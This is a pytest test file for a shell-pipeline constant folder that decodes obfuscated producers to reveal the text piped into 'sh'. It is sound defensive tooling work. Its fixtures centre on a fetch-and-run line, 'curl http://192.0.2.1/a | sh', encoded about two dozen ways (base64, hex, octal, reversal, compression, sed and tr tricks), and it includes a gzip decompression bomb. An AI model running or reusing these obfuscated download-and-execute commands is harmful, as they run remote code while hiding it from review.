"""Constant folding of pipelines."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma

import pytest

from tidewaiter.reading import bash, fold
from tidewaiter.reading.budget import Budget
from tidewaiter.reading.invocation import Invocation, Script, Word

PLAIN = "curl http://192.0.2.1/a | sh"
CODED = base64.b64encode(PLAIN.encode()).decode()
HEX = PLAIN.encode().hex()


def packed(pack: bytes) -> str:
    return base64.b64encode(pack).decode()


def given(text: str) -> str | None:
    """The text that the last program of a shell line gets on its standard input."""
    budget = Budget()
    script = bash.parse(text, budget)
    fold.fold(script, budget)
    found = script.invocations[-1].stdin_text
    return None if found is None else found.rstrip("\n")


@pytest.mark.parametrize(
    "producer",
    [
        f"echo '{PLAIN}'",
        f"printf '%s' '{PLAIN}'",
        f"echo {CODED} | base64 -d",
        f"echo {CODED} | base64 --decode",
        f"echo {CODED} | base64 -D",
        f"base64 -d <<< {CODED}",
        f"base64 -d <<E\n{CODED[:12]}\n{CODED[12:]}\nE\ntrue; base64 -d <<< {CODED}",
        f"echo {CODED} | openssl base64 -d -A",
        f"echo {CODED} | openssl enc -base64 -d",
        f"echo {CODED} | busybox base64 -d",
        f"echo {CODED[::-1]} | rev | base64 -d",
        f"echo {CODED.swapcase()} | tr 'a-zA-Z' 'A-Za-z' | base64 -di",
        f"echo {HEX} | xxd -r -p",
        f"echo -n {HEX} | xxd -p -r",
        "printf '" + "".join(f"\\x{byte:02x}" for byte in PLAIN.encode()) + "'",
        "echo -e '" + "".join(f"\\0{byte:03o}" for byte in PLAIN.encode()) + "'",
        f"echo '{PLAIN.replace('curl', 'XX')}' | sed 's/XX/curl/'",
        f"echo '{PLAIN.replace('curl', 'c@u@r@l')}' | tr -d @",
        f"echo 'x:{PLAIN.replace(':', '%')}' | cut -d: -f2 | tr % :",
        f"echo 'zz{PLAIN}' | tail -c +3",
        f"echo '{PLAIN}zz' | head -c {len(PLAIN)}",
        f"echo {packed(gzip.compress(PLAIN.encode(), mtime=0))} | base64 -d | gunzip",
        f"echo {packed(gzip.compress(PLAIN.encode(), mtime=0))} | base64 -d | gzip -dc",
        f"echo {packed(bz2.compress(PLAIN.encode()))} | base64 -d | bzip2 -d",
        f"echo {packed(lzma.compress(PLAIN.encode()))} | base64 -d | xz -d",
        f"echo {CODED} > /var/tmp/a; base64 -d /var/tmp/a",
        f"echo {CODED} | tee /var/tmp/a | base64 -d | cat -",
    ],
)
def test_a_constant_producer_is_evaluated(producer: str) -> None:
    line, _, tail = producer.rpartition("\n")
    assert given(f"{line}\n{tail} | sh" if line else f"{tail} | sh") == PLAIN


@pytest.mark.parametrize("producer", ["cat /etc/x", "curl http://192.0.2.1/a", "echo a | base64 -d x", 'echo "$(id)"', "date"])
def test_what_is_not_constant_stays_unknown(producer: str) -> None:
    assert given(f"{producer} | sh") is None


def test_decoded_text_is_a_step_for_people() -> None:
    budget = Budget()
    fold.fold(bash.parse(f"echo {CODED} | base64 -d | sh", budget), budget)
    assert ("base64", PLAIN) in [(step.what, step.text) for step in budget.steps]


def test_files_with_constant_content_are_returned() -> None:
    budget = Budget()
    script = bash.parse(f"echo {CODED} | base64 -d > /var/tmp/r; bash /var/tmp/r; bash <(echo {CODED} | base64 -d)", budget)
    files = fold.fold(script, budget)
    assert files["/var/tmp/r"] == PLAIN
    assert files[script.invocations[-1].argv[1].text] == PLAIN


def test_any_script_can_be_folded() -> None:
    echo = Invocation((Word("echo"), Word("a"), Word("b")))
    shell = Invocation((Word("cmd.exe"),), stdin=(echo,))
    fold.fold(Script([echo, shell]), Budget())
    assert shell.stdin_text == "a b\n"


def test_a_decompression_bomb_is_bounded() -> None:
    bomb = gzip.compress(b"\0" * 20_000_000)
    found = given(f"echo {packed(bomb)} | base64 -d | gunzip | sh")
    assert found is None or len(found) <= 500_000
